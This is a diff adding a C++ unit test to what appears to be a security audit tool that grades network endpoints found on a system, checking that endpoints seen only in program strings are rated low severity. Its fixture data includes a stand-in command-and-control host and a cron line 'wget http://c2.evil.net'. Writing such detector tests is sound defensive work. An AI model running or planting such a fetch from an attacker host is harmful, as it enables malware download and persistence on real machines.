@@ -452,6 +452,26 @@ TEST(ApplyPledge, EndpointsByNameWildcardAndNetwork) {
   EXPECT_TRUE(Item(r, ObservationKind::kEndpoint, "192.0.2.0/24")->found);
 }
 
+TEST(ApplyPledge, EndpointOnlyInProgramStringsIsLowSeverity) {
+  AuditReport r;
+  Observation in_program = Seen(ObservationKind::kEndpoint, "www.gnu.org", {},
+                                "hard-coded in program /bin/ls", At("/bin/ls", 9, "www.gnu.org"));
+  in_program.in_program_strings = true;
+  r.observations.push_back(in_program);
+  Observation in_script = Seen(ObservationKind::kEndpoint, "c2.evil.net", {}, "in /etc/cron",
+                               At("/etc/cron", 0, "wget http://c2.evil.net"));
+  r.observations.push_back(in_script);
+  in_script.evidence = At("/usr/bin/agent", 3, "c2.evil.net");
+  in_script.in_program_strings = true;
+  r.observations.push_back(in_script);  // also in a program: still medium
+  internal::ApplyPledge(ExamplePledge(), r);
+  ASSERT_EQ(r.findings.size(), 2u);
+  for (const Finding& f : r.findings) {
+    const bool gnu = f.message.find("www.gnu.org") != std::string::npos;
+    EXPECT_EQ(f.severity, gnu ? Severity::kLow : Severity::kMedium) << f.message;
+  }
+}
+
 TEST(ApplyPledge, AllowListedObservationsAreNotJudged) {
   AuditReport r;
   r.observations.push_back(Seen(ObservationKind::kEndpoint, "collector.partner.example", {}, "",
